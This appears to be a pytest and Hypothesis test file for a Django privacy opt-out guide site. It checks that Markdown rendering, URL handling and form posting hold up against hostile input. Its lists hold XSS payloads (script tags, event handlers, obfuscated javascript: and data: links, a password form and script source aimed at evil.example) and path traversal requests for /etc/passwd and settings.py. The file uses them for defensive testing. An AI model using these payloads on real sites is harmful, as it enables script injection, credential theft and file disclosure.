"""Hostile and malformed input: sanitised Markdown, odd requests, and property-based fuzzing."""

import string
from urllib.parse import urlsplit

import pytest
from django.test import Client
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from optout.guides.markdown import render
from tests.helpers import SAME_SITE, Elements

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="#" onclick="alert(1)">x</a>',
    "<body onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=password></form>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<a href="https://example.org" target="_blank">x</a>',
    "<!--<script>alert(1)</script>-->",
    '[x](https://example.org "title" onclick="alert(1)")',
]

ALLOWED_SCHEMES = {"", "https", "http", "mailto"}  # "" is a relative link, such as #source-x


def safe_url(url: str) -> bool:
    return urlsplit(url.strip()).scheme.lower() in ALLOWED_SCHEMES


@pytest.mark.parametrize("payload", XSS)
def test_markdown_never_lets_a_payload_through(payload):
    html = render(payload)
    for tag, attrs in Elements(html).tags:
        assert tag not in {"script", "style", "svg", "math", "iframe", "object", "embed", "form",
                           "input", "meta", "base", "img", "body", "div"}, html  # fmt: skip
        assert not any(name.startswith("on") for name in attrs), html
        assert "style" not in attrs and "target" not in attrs, html
        for name in ("href", "src", "action", "xlink:href"):
            if name in attrs:
                assert safe_url(attrs[name]), html


@given(st.text(max_size=300))
@hsettings(max_examples=300, deadline=None)
def test_markdown_output_is_always_safe(text):
    for _tag, attrs in Elements(render(text)).tags:
        assert not any(name.startswith("on") for name in attrs)
        if "href" in attrs:
            assert safe_url(attrs["href"])


ODD_PATHS = [
    ("/guides/linkedin/%00/", 404),
    ("/guides/%ff%fe/", 404),
    ("/guides/linkedin/v/99999999999999999999999/", 404),
    ("/guides/linkedin/v/-1/", 404),
    ("/checklist/linkedin/%c3%28/", 404),
    ("/" + "a" * 5000, 404),
    ("/guides/linkedin/?region=%00", 404),
    ("/guides/linkedin/?region=eu&region=us", 200),  # the last one wins, as in any form
    ("/guides/linkedin/?region=" + "x" * 10000, 404),
    ("/checklist/reminder.ics?months=%ff", 400),
    ("/checklist/reminder.ics?months=99999999999999999999", 400),
    ("/media/screenshots/../../../etc/passwd", 404),
    ("/static/../optout/settings.py", 404),
    ("/guides/linkedin/changes/0/", 404),
    ("/guides/linkedin/draft/1/", 302),  # drafts are for signed-in editors
]


@pytest.mark.parametrize(("path", "status"), ODD_PATHS)
def test_odd_paths_get_the_right_answer_and_set_no_cookie(client, published, path, status):
    response = client.get(path)
    assert response.status_code == status
    assert not response.cookies
    if status == 404:
        assert "We could not find that page" in response.content.decode()
    if status == 302:
        assert response["Location"].startswith("/admin/login/")


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b"\xff\xfe\xfa" * 1000, "application/x-www-form-urlencoded"),
        (b"state=\xc3\x28&region=\xff", "application/x-www-form-urlencoded"),
        (b"x" * 300_000, "application/x-www-form-urlencoded"),
        (b"--b\r\nContent-Disposition: form-data; name=state\r\n\r\ndone\r\n", "multipart/form-data; boundary=b"),
        (b"{\"state\": \"done\"}", "application/json"),
        (b"state=done&" * 2000, "application/x-www-form-urlencoded"),
    ],
)  # fmt: skip
@pytest.mark.parametrize(
    "url", ["/checklist/linkedin/ai-training/", "/checklist/resume/", "/checklist/code/"]
)
def test_malformed_bodies_are_a_400_and_change_nothing(client, published, body, content_type, url):
    from optout.checklists.models import Checklist

    response = client.post(url, body, content_type=content_type, **SAME_SITE)
    assert response.status_code == 400
    assert not response.cookies
    assert not Checklist.objects.exists()


@pytest.mark.parametrize("body", [b"\xff\xfe\xfa" * 1000, b"x" * 300_000, b"confirm=\xc3\x28"])
def test_deleting_reads_no_body_so_a_malformed_one_still_deletes(client, published, body):
    from optout.checklists.models import Checklist

    client.post("/checklist/linkedin/ai-training/", {"state": "done"}, **SAME_SITE)
    response = client.post(
        "/checklist/delete/", body, content_type="application/x-www-form-urlencoded", **SAME_SITE
    )
    assert response.status_code == 200
    assert "Your data is deleted" in response.content.decode()
    assert not Checklist.objects.exists()


def test_a_bad_host_header_is_a_400(client, published):
    assert client.get("/", HTTP_HOST="evil.example").status_code == 400
    assert client.get("/", HTTP_HOST="a" * 300).status_code == 400


PUBLIC_GETS = ["/", "/privacy/", "/guides/linkedin/", "/guides/linkedin/changes/", "/checklist/",
               "/guides/linkedin/changes/feed/", "/guides/linkedin.json", "/checklist/reminder.ics"]  # fmt: skip
TEXT = st.text(alphabet=st.characters(codec="utf-8"), max_size=60)


@given(
    path=st.sampled_from(PUBLIC_GETS),
    params=st.dictionaries(st.sampled_from(["region", "months", "next", "x"]), TEXT, max_size=3),
)
@hsettings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_public_pages_never_fail_whatever_the_query(published, path, params):
    response = Client().get(path, params)
    assert response.status_code in (200, 400, 404)
    assert not response.cookies  # reading sets no cookie, whatever the address says
    if response.status_code != 200:
        assert response["Content-Type"] == "text/html; charset=utf-8"
        assert "<h1>" in response.content.decode()  # a page that says what went wrong


@given(
    control=st.sampled_from(["ai-training", "research-use", "objection-form", "x", "AI-TRAINING"]),
    data=st.dictionaries(st.sampled_from(["state", "region", "next", "code"]), TEXT, max_size=4),
    url=st.sampled_from(["/checklist/linkedin/{}/", "/checklist/resume/", "/checklist/code/"]),
)
@hsettings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_public_forms_never_fail_whatever_is_posted(published, control, data, url):
    from django.core.cache import cache

    from optout.checklists.models import Checklist

    cache.clear()  # stay under the rate limits: this is about bad input
    Checklist.objects.all().delete()
    response = Client().post(url.format(control), data, **SAME_SITE)
    assert response.status_code in (302, 400, 404)
    # A checklist exists only after an accepted tick, and then the visitor has its cookie.
    saved = Checklist.objects.exists()
    assert saved == bool(response.cookies)
    assert not saved or (response.status_code == 302 and data.get("state") in ("done", "waiting"))


def test_strange_characters_in_a_resume_code_are_a_clear_error(client, published):
    for code in [string.printable, "\u202e" * 16, "\U0001d7d8" * 16]:
        response = client.post("/checklist/resume/", {"code": code}, **SAME_SITE)
        assert response.status_code == 400
